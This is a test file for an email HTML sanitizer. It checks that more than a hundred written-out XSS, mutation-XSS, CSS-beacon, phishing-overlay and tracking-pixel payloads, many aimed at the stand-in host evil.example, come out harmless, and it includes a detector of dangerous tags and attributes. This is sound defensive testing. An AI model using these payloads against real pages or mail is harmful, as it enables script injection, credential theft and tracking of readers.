import * as fc from "fast-check";
import { JSDOM } from "jsdom";
import { describe, expect, it } from "vitest";
import { signImageUrl } from "./image-signature.ts";
import { sanitize, type SanitizeInput } from "./sanitize.ts";

const rules: Omit<SanitizeInput, "html"> = {
  cidUrls: { "logo@x": "/api/attachments/7" },
  showRemoteImages: false,
  imageProxy: { prefix: "/api/images", key: "secret" },
};
const reading = { isForward: false, sentAt: "2026-02-02T10:00:00Z" };
const clean = (html: string, more: Partial<SanitizeInput> = {}) => sanitize({ html, ...rules, ...more });

const parser = new new JSDOM("").window.DOMParser();

/** Nothing here may run, load, submit, cover the page or lead anywhere but out. */
function dangersIn(html: string): string[] {
  const document = parser.parseFromString(`<!doctype html><body>${html}`, "text/html");
  return [...document.querySelectorAll("*")].flatMap((element) => {
    const name = element.localName;
    const found = /^(script|iframe|frame|object|embed|base|meta|link|form|input|button|textarea|select|option|svg|math|video|audio|source|track|template|noscript|title|dialog|portal|applet|marquee|xmp|plaintext)$/.test(name) ? [`<${name}>`] : [];
    for (const { name: attribute, value } of element.attributes) {
      if (/^(on|srcset|background|action|formaction|xlink|data|poster|ping|srcdoc|is|slot|style$.*url)/i.test(attribute)) found.push(attribute);
      if (!/^(title|alt|summary)$/.test(attribute) && /javascript:|vbscript:|data:text|expression\(|@import/i.test(value.replace(/[\s\0]/g, ""))) found.push(`${attribute}=${value}`);
      if (attribute === "href" && !/^(https?|mailto):/i.test(value)) found.push(value);
      if (attribute === "src" && !/^(\/api\/|data:image\/(png|jpe?g|gif|webp);base64,)/.test(value)) found.push(value);
      if (attribute === "style" && /url|position|z-index|\\|expression|behavior|transform|animation/i.test(value)) found.push(value);
    }
    if (name === "style" && /url|@import|@font-face|position|<|\\/i.test(element.textContent ?? "")) found.push(element.textContent ?? "");
    if (name === "a" && element.hasAttribute("href") && element.getAttribute("rel") !== "noopener noreferrer") found.push("rel");
    return found;
  });
} // prettier-ignore

const hostile = [
  "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>", "<body onload=alert(1)>x", "<p onclick='alert(1)' onmouseover=alert(1)>x</p>",
  "<a href='javascript:alert(1)'>x</a>", "<a href='JaVaScRiPt:alert(1)'>x</a>", "<a href=' &#1; javascript:alert(1)'>x</a>", "<a href='java&#9;script:alert(1)'>x</a>", "<a href='java\nscript:alert(1)'>x</a>",
  "<a href='&#x6A;avascript&colon;alert(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href='vbscript:x'>x</a>", "<a href='//evil.example'>x</a>", "<a href='/api/accounts'>x</a>", "<a href='#top'>x</a>", "<a href='file:///etc/passwd'>x</a>", "<a href='blob:https://x/y'>x</a>",
  "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate attributeName=href values=javascript:alert(1)><a><text>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg id=x>#x'></svg>", "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><feImage href=https://evil.example/x></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'></table></mtext></math>", "<math href=javascript:alert(1)>x</math>", "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
  "<form action=https://evil.example><input name=password><button>Sign in</button></form>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<input type=image src=https://evil.example/x>", "<button formaction=javascript:alert(1)>x</button>", "<isindex type=image src=1 onerror=alert(1)>",
  "<iframe src=https://evil.example></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=https://evil.example></object>", "<embed src=https://evil.example>", "<frameset><frame src=javascript:alert(1)></frameset>", "<applet code=x></applet>", "<portal src=https://evil.example></portal>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<base href=https://evil.example/><a href=x>x</a>", "<link rel=stylesheet href=https://evil.example/x.css>", "<link rel=dns-prefetch href=//evil.example>",
  "<style>body{background:url(https://evil.example/x)}</style>", "<style>@import 'https://evil.example/x';</style>", "<style>@font-face{font-family:x;src:url(https://evil.example)}</style>", "<style>p{background:\\75 rl(https://evil.example)}</style>", "<style></style><script>alert(1)</script>", "<style><!--</style><script>alert(1)</script>-->", "<style>a{}</sty</style>le><img src=x onerror=alert(1)></style>",
  "<p style='background:url(https://evil.example/x)'>x</p>", "<p style='background:u\\rl(https://evil.example/x)'>x</p>", "<p style=\"background:image-set('https://evil.example/x' 1x)\">x</p>", "<p style='--x:url(https://evil.example);background:var(--x)'>x</p>", "<p style='width:expression(alert(1))'>x</p>", "<p style='behavior:url(x.htc)'>x</p>", "<p style='-moz-binding:url(x)'>x</p>",
  "<div style='position:fixed;inset:0;z-index:99999;background:white'>Sign in again</div>", "<div style='position:absolute;top:0;left:0;width:100vw;height:100vh'>x</div>", "<a style='position:fixed;top:0;left:0;width:100%;height:100%' href=https://evil.example></a>", "<style>div{position:fixed;top:0}</style><div>x</div>", "<div style='transform:scale(99)'>x</div>",
  "<img src=https://evil.example/pixel.gif width=1 height=1>", "<img srcset='https://evil.example/x 1x'>", "<img src='//evil.example/x'>", "<img src='/api/conversations'>", "<img src='\thttps://evil.example/x'>", "<img src='data:image/svg+xml;base64,PHN2Zz4='>", "<img src='data:text/html;base64,PHN2Zz4='>", "<img lowsrc=https://evil.example dynsrc=https://evil.example>", "<img src=cid:other@x>", "<img src='/api/images?url=https%3A%2F%2Fevil.example%2F&sig=forged'>",
  "<table background=https://evil.example/x><tr><td background=https://evil.example/x>x</table>", "<video src=https://evil.example poster=https://evil.example></video>", "<audio src=https://evil.example></audio>", "<picture><source srcset=https://evil.example/x><img src=x></picture>", "<input type=text autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>", "<title><img title='</title><img src=x onerror=alert(1)>'></title>", "<template><img src=x onerror=alert(1)></template>", "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>", "<noembed><img src=x onerror=alert(1)></noembed>", "<plaintext><img src=x onerror=alert(1)>", "<select><style><img src=x onerror=alert(1)></style></select>", "<p id='</style><img src=x onerror=alert(1)>'>x</p>",
  "<!--><img src=x onerror=alert(1)>-->", "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml version='1.0'?><script>alert(1)</script>", "<a href='https://good.example' target=_top rel=opener>x</a>", "<a href='https://good.example' ping=https://evil.example>x</a>", "<a href='mailto:a@b?subject=x'>x</a>", "<x-custom onclick=alert(1)>x</x-custom>", "<p is=x-evil>x</p>",
  "<p data-x=javascript:alert(1)>x</p>", "<p class=a id=location name=cookie>x</p>", "<\0script>alert(1)</script>", "<scr\0ipt>alert(1)</scr\0ipt>", "<img/src=x/onerror=alert(1)>", "<img src='x'onerror=alert(1)>", "<<script>alert(1)//<</script>", "<img src=`x`onerror=alert(1)>", "<a href=\"https://x\" onclick=\"alert(1)\"/>", "<dialog open>x</dialog>", "<label for=x>y</label>", "<map name=m><area href=javascript:alert(1)></map><img usemap=#m>", "<ol type='javascript:alert(1)'><li>x</ol>", "<font face='javascript:alert(1)'>x</font>", "<td headers='javascript:x'>x</td>",
]; // prettier-ignore

describe("sanitize", () => {
  it.each(hostile)("makes %s harmless", (html) => {
    for (const more of [{}, { showRemoteImages: true }, { isQuote: true }]) {
      const once = clean(html, more).html;
      expect(dangersIn(once)).toEqual([]);
      expect(clean(once, more).html).toBe(once);
    }
  });

  it("leaves no address of the sender's behind before images are asked for", () => {
    for (const html of hostile) expect(clean(html).html.replace(/href="[^"]*"/g, "")).not.toMatch(/evil\.example/);
  }); // prettier-ignore

  it("keeps what a newsletter is made of", () => {
    const html = '<style>.a{color:red}</style><div><table width="600" cellpadding="0" cellspacing="0" border="0" align="center" bgcolor="#eeeeee"><tbody><tr><td valign="top" colspan="2" style="padding:10px;font-family:Arial,sans-serif" class="a"><font color="#333333" face="Arial" size="2">Hello <b>you</b></font><br><a href="https://example.com/a?b=c&amp;d" target="_blank" rel="noopener noreferrer" style="color:#fff">Buy</a></td></tr></tbody></table></div>';
    expect(clean(html)).toMatchObject({ html, remoteImageCount: 0, hasHtml: true });
  }); // prettier-ignore

  it("keeps the body's colours, the document's styles and the words of forbidden elements", () => {
    const { html } = clean(
      "<html><head><title>t</title><style>p{color:red}</style></head><body bgcolor=#112233 text=white style='margin:0'><button>Go</button><center>x</center></body></html>",
    );
    expect(html).toBe('<style>p{color:red}</style><div style="background-color:#112233;color:white;margin:0">Go<center>x</center></div>');
  }); // prettier-ignore

  it("counts remote images, and shows them through the signed proxy when asked", () => {
    const html = '<img src="https://a.example/1.png?x=1&amp;y=2" alt="Logo" width="10"><img src="http://a.example/2.png"><img src="cid:logo@x"><img src="data:image/png;base64,AAAA">';
    const hidden = clean(html);
    expect(hidden.remoteImageCount).toBe(2);
    expect(hidden.html).toBe('<div><img alt="Logo" width="10"><img><img src="/api/attachments/7"><img src="data:image/png;base64,AAAA"></div>');
    const shown = clean(html, { showRemoteImages: true });
    const url = "https://a.example/1.png?x=1&y=2";
    expect(shown.remoteImageCount).toBe(0);
    expect(shown.html).toContain(`src="/api/images?url=${encodeURIComponent(url)}&amp;sig=${signImageUrl("secret", url)}" alt="Logo"`);
    expect(clean(html, { showRemoteImages: true, imageProxy: null }).remoteImageCount).toBe(2);
  }); // prettier-ignore

  it("finds inline images however the Content-ID is written", () => {
    const url = { html: '<div><img src="/api/attachments/7"></div>' };
    for (const cid of ["cid:logo@x", "CID:LOGO@x", "cid:%6Cogo@x", "cid:<logo@x>"]) expect(clean(`<img src="${cid}">`)).toMatchObject(url);
    expect(sanitize({ ...rules, html: "<img src=cid:a>", cidUrls: { "<a>": "/api/attachments/8" } }).html).toBe('<div><img src="/api/attachments/8"></div>');
  }); // prettier-ignore

  it("leaves inline images of a mail that we write ourselves to their Content-IDs", () => {
    expect(clean("<img src=cid:pic>", { cidUrls: { pic: "cid:pic" } }).html).toBe('<div><img src="cid:pic"></div>');
    expect(clean("<a href=cid:pic>x</a><img src=cid:other>", { cidUrls: { pic: "cid:pic" } }).html).toBe(
      "<div><a>x</a><img></div>",
    );
  });

  it("puts neither images nor style sheets into a quote", () => {
    const { html } = clean("<style>p{color:red}</style><p style='color:blue'>x<img src=https://evil.example/x></p>", {
      isQuote: true,
    });
    expect(html).toBe('<div><p style="color:blue">x</p></div>');
  });

  it.each([
    ["too deep", `${"<div>".repeat(20_000)}the words`],
    ["too deep by formatting", `${"<b><i>".repeat(5000)}the words`],
    ["too large", `<p>the words</p>${"<p>x</p>".repeat(200_000)}`],
    ["too many tags", `<p>the words</p>${"<b>".repeat(150_000)}`],
    ["too much style", `<style>${"a{color:red}".repeat(30_000)}</style><p>the words</p>`],
  ])("shows the words alone of a mail that is %s", (_, html) => {
    const shown = clean(html);
    expect(shown.hasHtml).toBe(false);
    expect(shown.html).toContain("the words");
    expect(dangersIn(shown.html)).toEqual([]);
  });

  it("does not stumble over 50,000 attributes", () => {
    const attributes = Array.from({ length: 50_000 }, (_, at) => `a${at}=1`).join(" ");
    expect(clean(`<p ${attributes} title=t>x</p>`).html).toBe('<div><p title="t">x</p></div>');
  });

  it("changes nothing the second time, and lets no danger through, whatever is put together", () => {
    const piece = fc.constantFrom(
      "<svg>", "</svg>", "<math>", "</math>", "<style>", "</style>", "<script>", "</script>", "<img src=x onerror=alert(1)>", "<!--", "-->", "<table>", "<td>", "</table>", "<p>", "</p>", "<a href=javascript:x>", "<a href='https://good.example'>",
      "<form>", "</form>", "<mtext>", "<mglyph>", "<foreignObject>", "<desc>", "<title>", "</title>", "<noscript>", "</noscript>", "<template>", "</template>", "<select>", "<option>", "<textarea>", "</textarea>", "<iframe>", "</iframe>", "<b>", "</b>", "<i title='", "'>", "\"", "&lt;img src=x onerror=alert(1)&gt;",
      "<p style='color:red;position:fixed'>", "<li>", "<ul>", "text", "<br>", "<body bgcolor=red>", "</body>", "<annotation-xml encoding='text/html'>", "<xmp>", "<plaintext>", "<ruby><rt>", "<caption>", "<col>", "<frameset>", "<html style='color:red'>", "</p>", "<h1>", "\n ", "\n\n", " ", "<!-- x -->", "\u00a0", "<head>", "</head>", "</html>\n", "<style>p{color:red}</style>", "<font color=red>", "<pre>\n\n", "<center>",
      "<blockquote type=cite>", "</blockquote>", "<div class=gmail_quote>", "<div>", "</div>", "On 2 Feb 2026 at 10:00, K <k@x.example> wrote:", "<span class=postroom-quote>", "</span>", "at 15:00 CET", "<time class=postroom-time datetime=x>", "</time>", "<p style='color:#1f497d'>", "<table width=600 bgcolor=#eee>", "&gt; old", "-- <br>",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => {
        const once = clean(pieces.join("")).html;
        expect(dangersIn(once)).toEqual([]);
        expect(clean(once).html).toBe(once);
        const read = clean(pieces.join(""), { reading }).html;
        expect(dangersIn(read)).toEqual([]);
        expect(clean(read, { reading }).html).toBe(read);
      }),
      { seed: 67, numRuns: 400 },
    );
  }); // prettier-ignore
});
